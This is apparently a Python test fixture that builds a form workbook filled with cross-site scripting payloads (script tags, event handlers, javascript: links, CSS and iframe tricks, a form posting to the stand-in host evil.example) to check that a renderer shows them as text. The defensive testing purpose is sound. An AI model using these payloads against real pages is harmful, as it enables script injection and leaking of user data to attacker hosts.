"""What hostile authors write where the page shows their words."""

from __future__ import annotations

from forms.workbook import Row, Sheet, Workbook

# Each would set `window.harmed`, or ask evil.example for something, were it not shown as text.
PAYLOADS = [
    "<script>window.harmed=1</script>",
    "</script><script>window.harmed=2</script>",
    "<!--<script>window.harmed=3",
    "<img src=x onerror=window.harmed=4>",
    "<img src=http://evil.example/pixel.png>",
    "<svg onload=window.harmed=5><script>window.harmed=5</script></svg>",
    "<svg><animate onbegin=window.harmed=6 attributeName=x dur=1s>",
    "<a href='javascript:window.harmed=7'>press</a>",
    "[press](javascript:window.harmed=8)",
    "![x](http://evil.example/markdown.png)",
    "<http://evil.example/auto>",
    "<style>@import url(http://evil.example/a.css); body{background:url(http://evil.example/b)}</style>",
    "<b style='background:url(http://evil.example/c)' onmouseover='window.harmed=9'>bold</b>",
    "<iframe srcdoc='<script>parent.harmed=10</script>'></iframe>",
    "<object data=http://evil.example/d></object><embed src=http://evil.example/e>",
    "<base href=http://evil.example/><form action=http://evil.example/f><input name=stolen>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/g'>",
    "<link rel=stylesheet href=http://evil.example/h.css>",
    '" autofocus onfocus="window.harmed=11" x="',
    "' onclick='window.harmed=12' x='",
    "<details open ontoggle=window.harmed=13>",
    "<template><script>window.harmed=14</script></template>",
    "<math><mtext></p><img src=x onerror=window.harmed=15></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=window.harmed=16>'>",
    "<scr\u0000ipt>window.harmed=17</scr\u0000ipt>".replace("\u0000", ""),
    "\u202e<b>reversed</b>\u202c\u2028<script>window.harmed=18</script>",
    "\uff1cscript\uff1ewindow.harmed=19\uff1c/script\uff1e",
    "${no} {{ 7*7 }} {% raw %} %(gap)s &lt;script&gt;window.harmed=20&lt;/script&gt;",
    "**bold** <b>b</b> <u onclick=window.harmed=21>u</u>",
]


def hostile_workbook() -> Workbook:
    """Write each payload into every text that a page shows: labels, hints, choices, messages."""
    payloads = [text.replace("${no}", "$ {no}") for text in PAYLOADS]
    rows = [
        {"type": "begin_repeat", "name": "r", "label::Svenska (sv)": payloads[3]},
        {"type": "text", "name": "inside", "label::Svenska (sv)": payloads[1]},
        {"type": "end_repeat"},
    ]
    for number, text in enumerate(payloads):
        rows.append(_question(number, text))
    rows.append({"type": "rank bad", "name": "ranked", "label::Svenska (sv)": payloads[5]})
    rows.append(
        {"type": "select_one bad", "name": "few", "label::Svenska (sv)": payloads[0],
         "appearance": "minimal"}
    )  # fmt: skip
    choices = [
        {"list_name": "bad", "name": f"c{n}", "label::Svenska (sv)": text}
        for n, text in enumerate(payloads)
    ]
    return Workbook(
        (
            _sheet("survey", rows),
            _sheet("choices", choices),
            _sheet(
                "settings",
                [
                    {
                        "form_id": "hostile",
                        "form_title": payloads[1],
                        "default_language": "Svenska (sv)",
                    }
                ],
            ),
        )
    )


def _question(number: int, text: str) -> dict[str, str]:
    quoted = text.replace("'", "")
    return {
        "type": ("text", "note", "select_one bad", "select_multiple bad")[number % 4],
        "name": f"q{number}",
        "label::Svenska (sv)": f"{text} q{number}",
        f"label::{_language(text)} (en)": text,
        "hint::Svenska (sv)": text,
        "constraint": f". = '{quoted}'" if number % 4 == 0 else "",
        "constraint_message::Svenska (sv)": text if number % 4 == 0 else "",
    }


def _language(_: str) -> str:
    return "<script>window.harmed=22</script>"


def _sheet(name: str, rows: list[dict[str, str]]) -> Sheet:
    headers = tuple(dict.fromkeys(header for row in rows for header in row))
    numbered = enumerate(rows, start=2)
    return Sheet(
        name,
        headers,
        tuple(Row(n, {key: text for key, text in row.items() if text}) for n, row in numbered),
    )
